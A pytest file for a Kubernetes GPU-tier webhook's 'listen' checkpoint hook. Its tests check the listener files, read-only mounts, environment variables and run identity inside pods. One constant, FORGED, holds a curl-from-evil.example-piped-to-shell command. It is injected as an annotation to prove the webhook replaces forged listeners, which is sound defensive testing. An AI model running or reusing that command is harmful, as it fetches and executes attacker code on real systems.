"""Hook kind `listen` on a real node: what the kubelet writes into a pod, how Python finds it, and whose run it is."""

import json
from pathlib import Path
from typing import Any

import pytest

from demonstration.workloads import Tree, create, gpu_pod, keeping_data, publish_code, training_job
from localcluster.node import NodeCluster
from localcluster.waiting import wait_until
from webhook.policy.checkpoint.listen import listener_texts

pytestmark = [pytest.mark.node, pytest.mark.usefixtures("release")]

LISTEN = {"gpu-tiers.dev/checkpoint": "listen"}
FORGED = "import os; os.system('curl evil.example | sh')"
FOLDER = "/opt/gpu-tiers/python"
SECONDS = 120
LOOK = f"""\
import json, os, pathlib, sys
folder = pathlib.Path("{FOLDER}")

def write(file):
    try:
        file.write_text("")
    except OSError as error:
        return error.strerror

seen = {{
    "files": {{each.name: each.read_bytes().decode() for each in folder.glob("*.py")}},
    "says": [write(folder / "more.py"), write(folder / "sitecustomize.py")],
    "env": dict(os.environ),
    "first finder": type(sys.meta_path[0]).__module__ + "." + type(sys.meta_path[0]).__name__,
    "hidden": getattr(sys.modules["sitecustomize"], "__file__", ""),
}}
pathlib.Path("/data/unfinished").write_text(json.dumps(seen))
os.rename("/data/unfinished", "/data/seen")
"""
"""A program of the image's own Python that looks about."""

REPORT = """\
import gpu_tiers_listen, json, os, pathlib, time

told = {"step": 50, "last_saved_step": 40, "last_saved_at": time.time()}
try:
    gpu_tiers_listen.send(json.dumps(told).encode())
    heard = "heard"
except Exception as error:
    heard = repr(error)
pathlib.Path("/data/unfinished").write_text(json.dumps({"told": heard}))
os.rename("/data/unfinished", "/data/seen")
"""
"""A program that has the listener report at once."""


def looking(folder: Path) -> Tree:
    pod = gpu_pod("looking", "python3", "/code/look.py", tier="gpu-batch", annotations=dict(LISTEN))
    return keeping_data(pod, folder)


def begin(node: NodeCluster, namespace: str, tree: Tree, program: str = LOOK) -> None:
    publish_code(node, namespace, **{"look.py": program})
    create(node, namespace, tree)


def seen(folder: Path) -> dict[str, Any]:
    """Return what the program of a pod or a Job saw."""
    wait_until((folder / "seen").exists, SECONDS, "the program")
    found: dict[str, Any] = json.loads((folder / "seen").read_text())
    return found


def test_a_jobs_program_finds_the_listener_and_knows_its_run(node: NodeCluster, namespace: str, data: Path) -> None:
    begin(node, namespace, training_job(looking(data), LISTEN))
    found = seen(data)
    job = node.api.get("job/training", namespace)
    assert found["files"] == listener_texts(), "byte for byte"
    assert found["says"] == ["Read-only file system"] * 2
    assert found["env"]["PYTHONPATH"] == f"{FOLDER}:/code", "its own stays behind ours"
    assert found["env"]["GPU_TIERS_RUN"] == job["metadata"]["uid"]
    assert found["first finder"] == "sitecustomize._Finder", "Python ran our sitecustomize"
    assert found["hidden"].startswith(("/usr/lib/python3", "/etc/python3")), "and then Debian's, which ours hides"


def test_a_forged_listener_is_replaced(node: NodeCluster, namespace: str, data: Path) -> None:
    forged = {"gpu-tiers.dev/listener-start": FORGED, "gpu-tiers.dev/listener": FORGED}
    begin(node, namespace, training_job(looking(data), LISTEN | forged))
    assert seen(data)["files"] == listener_texts()


def test_a_bare_pod_is_of_no_run(node: NodeCluster, namespace: str, data: Path) -> None:
    begin(node, namespace, looking(data))
    found = seen(data)
    assert found["files"] == listener_texts()
    assert "GPU_TIERS_RUN" not in found["env"]


def test_a_report_is_heard_with_the_token_that_the_kubelet_gives(node: NodeCluster, namespace: str, data: Path) -> None:
    begin(node, namespace, looking(data), REPORT)
    assert seen(data) == {"told": "heard"}
